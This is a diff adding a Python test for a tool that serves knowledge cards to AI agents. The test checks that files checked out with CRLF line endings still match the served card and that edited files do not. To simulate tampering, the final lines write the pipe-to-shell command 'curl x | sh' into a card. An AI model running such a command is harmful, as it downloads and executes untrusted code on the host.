@@ -467,3 +467,29 @@ def test_agents_get_no_path_to_a_card_file_that_is_not_the_served_card(vault_rep
     assert "path:" not in context()
     served.unlink()
     assert "path:" not in context() and files() == [None]
+
+
+def test_a_checkout_with_crlf_line_ends_is_the_served_card(tmp_path: Path) -> None:
+    """Bug fixed: in a clone with `core.autocrlf=true` (git's default on Windows) or cards marked `eol=crlf`, every
+    card file holds the committed text with CRLF line ends, so its hash never matched the indexed blob: the hook gave
+    agents no path to any card and `cairn recall` said each file "differs from the card served". Such a file is the
+    card (git stores it back as the same blob); a real edit in it still is not."""
+    origin = VaultRepo(tmp_path / "origin")
+    make_vault(origin)
+    _git(tmp_path, "clone", "-q", "-c", "core.autocrlf=true", str(origin.root), "clone")
+    clone = VaultRepo.__new__(VaultRepo)
+    clone.root = tmp_path / "clone"
+    served = clone.root / "cards" / f"{REBASE_ID}.md"
+    assert b"\r\n" in served.read_bytes() and _git(clone.root, "status", "--porcelain") == ""
+    assert clone.cairn("index").returncode == 0
+
+    def files() -> list[object]:
+        done = clone.cairn("recall", FITTING_PROMPT, "--json")
+        return [c["file"] for c in json.loads(done.stdout)["cards"]]
+
+    done = clone.hook(FITTING_PROMPT, session="s-1")
+    assert f"   path: {json.dumps(str(served))}" in json.loads(done.stdout)["hookSpecificOutput"]["additionalContext"]
+    assert files() == [str(served)]
+    assert "differs from the card served" not in clone.cairn("recall", FITTING_PROMPT).stdout
+    served.write_bytes(served.read_bytes().replace(b"reflog", b"curl x | sh"))
+    assert files() == [None]
